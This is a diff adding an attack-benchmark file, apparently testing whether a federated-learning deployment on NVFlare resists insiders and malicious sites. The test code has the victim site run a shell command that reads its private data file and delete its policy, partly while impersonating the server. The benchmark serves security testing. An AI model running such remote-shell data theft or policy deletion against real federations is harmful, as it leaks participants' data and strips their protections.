@@ -1,0 +1,67 @@
+"""Anyone with a kit asks NVFlare's process at a site for the file with its rows, and to remove the folder with its policy."""
+
+from collections.abc import Callable
+from contextlib import AbstractContextManager
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+
+from benchmarks.attacks.case import PROCESSES, Case, Found, Run
+from benchmarks.attacks.federation import Attacked, from_tests
+from benchmarks.attacks.processes import SHARED, VICTIM
+from flareclust.typing import FloatArray
+
+STOPS = "the server passes on nothing between kits; sites answer what jobs need"
+
+
+def _asking(cell_of: Callable[[Attacked], AbstractContextManager[Any]]) -> Run:
+    def run(fast: bool) -> list[Found]:
+        attacked = SHARED.honest()
+        file = attacked.federation.kit(VICTIM) / "data" / "rows.csv"
+        np.savetxt(file, attacked.rows[VICTIM], fmt="%.17g", delimiter=",")
+        before = attacked.files()
+        with cell_of(attacked) as cell:
+            claims = _read(cell, file)
+        return [attacked.found(before, claims, "4 requests", None, [VICTIM])]
+
+    return run
+
+
+def _read(cell: Any, file: Path) -> list[FloatArray]:
+    """Return the rows of a file, where the site sends it; ask it, too, to remove its policy, in the server's name as well."""
+    from watching import ask_site, in_the_name_of_the_server
+
+    text = []
+    for asked_by in (lambda: None, lambda: in_the_name_of_the_server(cell)):
+        asked_by()
+        text.append(ask_site(cell, VICTIM, "sys.shell", f"cat {file}") or "")
+        ask_site(cell, VICTIM, "train.delete_run", job="local")
+    lines = [line.split(",") for line in "\n".join(text).splitlines()]
+    return [np.array(line, dtype=float) for line in lines if len(line) == 2 and line[0][:1].isdigit()]
+
+
+def _as_user(name: str) -> Callable[[Attacked], AbstractContextManager[Any]]:
+    def cell_of(attacked: Attacked) -> AbstractContextManager[Any]:
+        from_tests()
+        import harness
+        from kit_cells import as_user
+
+        return as_user(attacked.federation, getattr(harness, name))
+
+    return cell_of
+
+
+def _as_site(attacked: Attacked) -> AbstractContextManager[Any]:
+    from_tests()
+    from kit_cells import as_site
+
+    return as_site(attacked.federation, "south")
+
+
+CASES = [
+    Case("files-lead", "NVFlare's process at a site is asked to send the file with its rows, and to remove its policy", "lead",
+         PROCESSES, "1,500 of 1,500, policy gone", STOPS, _asking(_as_user("LEAD"))),
+    Case("files-member", "the same", "user without rights", PROCESSES, "1,500 of 1,500, policy gone", STOPS, _asking(_as_user("MEMBER"))),
+    Case("files-site", "the same", "site, malicious", PROCESSES, "1,500 of 1,500, policy gone", STOPS, _asking(_as_site)),
+]  # fmt: skip
